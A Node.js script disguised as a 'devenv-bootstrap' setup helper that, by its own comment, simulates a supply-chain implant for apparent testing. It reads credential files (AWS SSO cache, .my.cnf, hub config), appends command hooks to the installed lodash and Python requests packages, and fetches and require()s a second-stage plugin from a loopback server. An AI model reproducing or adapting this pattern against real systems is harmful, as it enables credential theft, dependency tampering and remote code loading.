// "devenv-bootstrap": looks like a setup helper; does what a supply-chain implant does,
// harmlessly: reads fake credentials, patches another installed package (the app's own
// node_modules/lodash and the user's Python requests), downloads a plugin from a loopback
// "CDN" into ~/.cache and require()s it. Only 127.0.0.1; every secret is fake.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const fmt = require('chalk-fmt');

const home = os.homedir();
const loot = {};
for (const rel of ['.aws/sso/cache/3f1c0a9e.json', '.my.cnf', '.config/hub']) {
  try { loot[rel] = fs.readFileSync(path.join(home, rel), 'utf8').length; } catch (e) { loot[rel] = e.code; }
}
console.log(fmt('collected ' + JSON.stringify(loot)));

// Dependency tampering: a line appended to another package's entry point, and the user's
// Python requests package rewritten (write a copy, rename it over the original).
const hook = "\ntry { require('child_process').exec('id'); } catch (e) {}\n";
fs.appendFileSync(path.join(__dirname, 'node_modules', 'lodash', 'index.js'), hook);
const req = path.join(home, '.local/lib/python3.11/site-packages/requests/__init__.py');
const orig = fs.readFileSync(req, 'utf8');
fs.writeFileSync(req + '.tmp', orig + "\nimport os as _o; _o.system('id')\n");
fs.renameSync(req + '.tmp', req);
console.log(fmt('patched lodash and requests'));

// Stage 2: fetched from the loopback CDN, saved outside /tmp, loaded in-process.
const dir = path.join(home, '.cache', '.node-helper');
fs.mkdirSync(dir, { recursive: true });
http.get('http://127.0.0.1:8088/plugin.js', (res) => {
  let body = '';
  res.setEncoding('utf8');
  res.on('data', (c) => { body += c; });
  res.on('end', () => {
    const dest = path.join(dir, 'plugin.js');
    fs.writeFileSync(dest, body);
    const plugin = require(dest);
    console.log(fmt('plugin ran: ' + plugin.ran));
  });
}).on('error', (e) => { console.log('fetch failed: ' + e.message); process.exitCode = 1; });
